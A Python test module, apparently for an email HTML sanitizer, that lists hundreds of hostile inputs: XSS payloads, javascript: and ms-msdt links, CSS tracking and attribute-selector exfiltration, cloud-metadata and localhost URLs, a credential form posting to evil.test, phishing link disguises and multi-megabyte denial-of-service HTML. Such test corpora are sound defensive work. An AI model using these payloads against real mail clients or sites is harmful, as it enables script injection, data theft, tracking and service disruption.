"""HTML that wants to act: whatever a browser gets of it must not."""

from collections.abc import Callable

from tests.hostile.cases import WORDS, Case, html_mail, html_part, part, text_part, top
from tests.hostile.cases import multipart as container

TRACE = "http://tracker.test/seen"
RUN = "alert(1)"

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)//",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x one\0rror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x'></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:http://x.test/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='ms-msdt:/id PCWDiagnostic'>x</a>",
    "<a href='search-ms:query=x&crumb=location:\\\\evil'>x</a>",
    "<a href='intent://x#Intent;end'>x</a>",
    "<a href='/admin/logout/'>x</a>",
    "<a href='//evil.test/x'>x</a>",
    "<a href='?status=closed'>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<a href='https://x.test' target=_top ping='http://tracker.test/p'>x</a>",
    "<area href=javascript:alert(1)><map name=m><area href=javascript:alert(1)></map>",
    "<base href='http://evil.test/'><a href='/login'>x</a>",
    "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<meta http-equiv=Set-Cookie content='sessionid=x'>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=import href=http://evil.test/x>",
    "<link rel=prefetch href=http://tracker.test/x><link rel=dns-prefetch href=//tracker.test>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'><param name=x value=y></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=A.class archive=http://evil.test/a.jar></applet>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<xss style='behavior:url(x.htc)' onclick=alert(1)>x</xss>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<div onpointerover=alert(1) tabindex=1 accesskey=x contenteditable autofocus>x</div>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?import namespace=t implementation='#default#time2'><t:set attributeName=innerHTML to='x'>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<html xmlns:xss><?import namespace=xss implementation=x><xss:xss>x</xss:xss>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)><layer src=javascript:alert(1)></layer>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=javascript:alert(1)>x</q>",
    "<a href='https://x.test/'title='</a><script>alert(1)</script>'>x</a>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=cid:x>",
    "<img src=cid:x title='x onerror=alert(1)'>",
    "<table><td><a href=x><table><td><a href='javascript:alert(1)'>x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff\u2028<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a\u00a0href='javascript:alert(1)'>x</a>",
    "<p id=main name=main class=send data-test=reply data-confirm=x>x</p>",
    "<form id=attributes name=body><input name=children><input id=parentNode></form>",
    "<img name=getElementById><img name=cookie><a id=location href=x></a>",
    "<form action=http://evil.test/><input name=password type=password><input type=submit></form>",
    "<form action=/accounts/logout/ method=post><button>x</button></form>",
    "<dialog open>Your session ended<input></dialog>",
    "<slot onslotchange=alert(1)></slot><p slot=x part=y exportparts=z>x</p>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
    '<script type=importmap>{}</script><script type=speculationrules>{"prefetch":[]}</script>',
    "<input type=image src=http://tracker.test/x><input type=hidden name=csrfmiddlewaretoken>",
]

STYLES = [
    "<p style='background:url(http://tracker.test/x)'>x</p>",
    "<p style='background:u\\rl(http://tracker.test/x)'>x</p>",
    "<p style='background:url\\28 http://tracker.test/x\\29'>x</p>",
    "<p style='background:image-set(\"http://tracker.test/x\" 1x)'>x</p>",
    "<p style='background:-webkit-image-set(url(http://tracker.test/x) 1x)'>x</p>",
    "<p style='background:cross-fade(url(http://tracker.test/x),red)'>x</p>",
    "<p style='list-style:url(http://tracker.test/x)'>x</p>",
    "<p style='content:url(http://tracker.test/x);cursor:url(http://tracker.test/x),auto'>x</p>",
    "<p style='border-image:url(http://tracker.test/x) 1'>x</p>",
    "<p style='mask:url(http://tracker.test/x);filter:url(http://tracker.test/x#f)'>x</p>",
    "<p style='font-family:x;src:url(http://tracker.test/x)'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:ex/**/pression(alert(1))'>x</p>",
    "<p style='background:\\75rl(javascript:alert(1))'>x</p>",
    "<p style='background:url(&#106;avascript:alert(1))'>x</p>",
    "<p style='color:red;}*{background:url(http://tracker.test/x)}'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<p style='position:absolute;top:-1000px'>x</p>",
    "<p style='--x:url(http://tracker.test/x);background:var(--x)'>x</p>",
    "<p style='width:calc(1px * 99999999);height:99999999px'>x</p>",
    "<p style='margin-left:-99999px;transform:scale(1000)'>x</p>",
    "<p style='animation:x 1s infinite;transition:all 9s'>x</p>",
    "<p style='height:100vh;min-height:100dvh'>x</p>",
    '<p style="font-family:\'x;background:url(http://tracker.test/x)">x</p>',
    "<p style='@import url(http://tracker.test/x)'>x</p>",
    "<p style='background:URL( http://tracker.test/x )'>x</p>",
    "<p style='background:\nurl\n(http://tracker.test/x)'>x</p>",
    "<p style='background:src(\"http://tracker.test/x\")'>x</p>",
    "<p style='background:attr(title url);background:element(#x);background:paint(x)'>x</p>",
    "<style>@import 'http://tracker.test/x.css';</style>",
    "<style>*{background:url(http://tracker.test/x)}</style>",
    "<style>input[value^=a]{background:url(http://tracker.test/a)}</style>",
    "<style>@font-face{font-family:x;src:url(http://tracker.test/x)}</style>",
]

REMOTE = [
    "<img src=http://tracker.test/x.gif width=1 height=1>",
    "<img src=//tracker.test/x.gif>",
    "<img src=https://tracker.test@evil.test/x.gif>",
    "<img src='http:\\\\tracker.test\\x.gif'>",
    "<img src='ht\ntp://tracker.test/x.gif'>",
    "<img src=x srcset='http://tracker.test/x 1x, http://tracker.test/y 2x'>",
    "<picture><source srcset=http://tracker.test/x><img src=x></picture>",
    "<img src=cid:a src=http://tracker.test/x>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
    "<img src='http://169.254.169.254/latest/meta-data/'>",
    "<img src='http://127.0.0.1:8000/admin/logout/'>",
    "<img src='http://[::1]/'><img src='http://2130706433/'><img src='http://0x7f.1/'>",
    "<img src=/api/v1/sessions/>",
    "<img src=attachments/1/content/>",
    "<img src=cid:../../etc/passwd><img src='cid:%2e%2e/x'><img src='cid:a\"onerror=alert(1)'>",
    "<img src=ftp://tracker.test/x><img src=ws://tracker.test/x><img src=mid:x@y>",
    "<img src=http://tracker.test/x loading=eager referrerpolicy=unsafe-url crossorigin>",
    "<video poster=http://tracker.test/x autoplay src=http://tracker.test/y></video>",
    "<audio src=http://tracker.test/x autoplay></audio><track src=http://tracker.test/x>",
    "<table background=http://tracker.test/x><tr background=http://tracker.test/x><td background=http://tracker.test/x>x</table>",
    "<body background=http://tracker.test/x>x</body>",
    "<svg><image href=http://tracker.test/x /><feImage href=http://tracker.test/x /></svg>",
    "<object data=http://tracker.test/x></object><embed src=http://tracker.test/x>",
    "<iframe src=http://tracker.test/x></iframe>",
    "<input type=image src=http://tracker.test/x>",
    "<html manifest=http://tracker.test/x><head profile=http://tracker.test/x>",
    "<a href=http://evil.test/>https://bank.test/</a>",
    "<a href=http://bank.test@evil.test/>bank.test</a>",
    "<a href=https://xn--bnk-5la.test/>bank.test</a>",
    "<a href='mailto:a@b.test?attach=/etc/passwd&bcc=c@d.test'>x</a>",
    "<a href='tel:*21*0900123456%23'>x</a>",
]

HEAVY: list[tuple[str, Callable[[], str]]] = [
    ("500 kB of open div", lambda: "<div>" * 100_000),
    ("500 kB of open font", lambda: "<font color=red>" * 31_000),
    ("nested tables", lambda: "<table><tr><td>" * 20_000),
    ("mismatched formatting", lambda: "<b><i><u><s>" * 30_000 + "</b>" * 30_000),
    ("adoption agency", lambda: "<a><b><p>" * 20_000 + "</a>" * 20_000),
    ("100,000 attributes", lambda: "<p " + " ".join(f"a{n}=b" for n in range(100_000)) + ">x"),
    ("100,000 style attributes", lambda: "<p style='color:red'>" * 25_000),
    ("an attribute of 5 MB", lambda: "<p title='" + "a" * 5_000_000 + "'>x"),
    ("a style of 2 MB", lambda: "<p style='" + "color:red;" * 200_000 + "'>x"),
    ("colspan of a million", lambda: "<table><td colspan=1000000 rowspan=1000000>x</table>"),
    ("100,000 images", lambda: "<img src=cid:a>" * 100_000),
    ("100,000 remote images", lambda: "<img src=http://tracker.test/x>" * 60_000),
    ("100,000 links", lambda: "<a href=http://a.test/>b.test</a>" * 60_000),
    ("100,000 comments", lambda: "<!-- x -->" * 100_000),
    ("comments never closed", lambda: "<!--" * 300_000),
    ("tags never closed", lambda: "<a " * 500_000),
    ("quotes never closed", lambda: '<p title="' * 200_000),
    ("angles", lambda: "<" * 3_000_000),
    ("ampersands", lambda: "&" * 3_000_000),
    ("entities", lambda: "&#x41;" * 500_000),
    ("broken entities", lambda: "&#" * 1_000_000),
    ("scripts never closed", lambda: "<script>" * 200_000),
    ("styles", lambda: "<style>a{}</style>" * 100_000),
    ("lists", lambda: "<ul><li>" * 50_000),
    ("nested quotes", lambda: "<blockquote>" * 40_000 + "x"),
    ("select and option", lambda: "<select><option>" * 50_000),
    ("svg and math", lambda: "<svg><math><mtext>" * 30_000),
    ("templates", lambda: "<template>" * 50_000),
    ("4 MB of words", lambda: "<p>" + "word " * 800_000),
    ("12 MB of words", lambda: "<p>" + "word " * 2_400_000),
    ("one word of 4 MB", lambda: "x" * 4_000_000),
    ("4 MB of spaces", lambda: "<p>" + " " * 4_000_000 + "x"),
    ("4 MB of br", lambda: "<br>" * 1_000_000),
    ("4 MB of hr", lambda: "<hr>" * 1_000_000),
    ("4 MB of td", lambda: "<table>" + "<td>" * 1_000_000),
    ("body styles", lambda: "<body style='" + "x:y;" * 100_000 + "'>x" * 10),
    ("deep, then words", lambda: "<div>" * 5_000 + WORDS + "</div>" * 5_000),
]

_CHARSETS = (("utf-16", "utf-16"), ("utf-7", "utf-7"), ("utf-32", "utf-32"), ("ascii", "x-unknown"))


def _coded(html: str, charset: str, declared: str) -> bytes:
    body = part(html.encode(charset), b"Content-Type: text/html; charset=" + declared.encode())
    return top() + body


def _with_words(html: str) -> Callable[[], bytes]:
    return lambda: html_mail(f"<p>{WORDS}</p>{html}")


CASES = [
    *(
        Case(f"script {n} {one[:30]!r}", "html scripts", _with_words(one), words=WORDS)
        for n, one in enumerate(SCRIPTS)
    ),
    *(
        Case(f"style {n} {one[10:40]!r}", "html styles", _with_words(one), words=WORDS)
        for n, one in enumerate(STYLES)
    ),
    *(
        Case(f"remote {n} {one[:30]!r}", "html remote", _with_words(one), words=WORDS)
        for n, one in enumerate(REMOTE)
    ),
    *(
        Case(f"heavy {name}", "html heavy", lambda build=build: html_mail(build()))
        for name, build in HEAVY
    ),
    *(
        Case(
            f"heavy {name} beside a text",
            "html heavy",
            lambda build=build: (
                top() + container((text_part(), html_part(build())), b"alternative")
            ),
            words=WORDS,
        )
        for name, build in HEAVY[:6]
    ),
    *(
        Case(
            f"script in {declared}",
            "html scripts",
            lambda c=charset, d=declared: _coded(
                "<p>x</p><script>alert(1)</script><img src=x onerror=alert(1)>", c, d
            ),
        )
        for charset, declared in _CHARSETS
    ),
    Case(
        "html said to be plain",
        "html scripts",
        lambda: top(more=b"Content-Type: text/plain\r\n\r\n") + b"<script>alert(1)</script>",
    ),
    Case(
        "xhtml",
        "html scripts",
        lambda: (
            top()
            + part(
                b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
                b"Content-Type: application/xhtml+xml",
            )
        ),
    ),
    Case(
        "enriched text",
        "html scripts",
        lambda: (
            top() + part(b"<x-tad-bigger><script>alert(1)</script>", b"Content-Type: text/enriched")
        ),
    ),
]
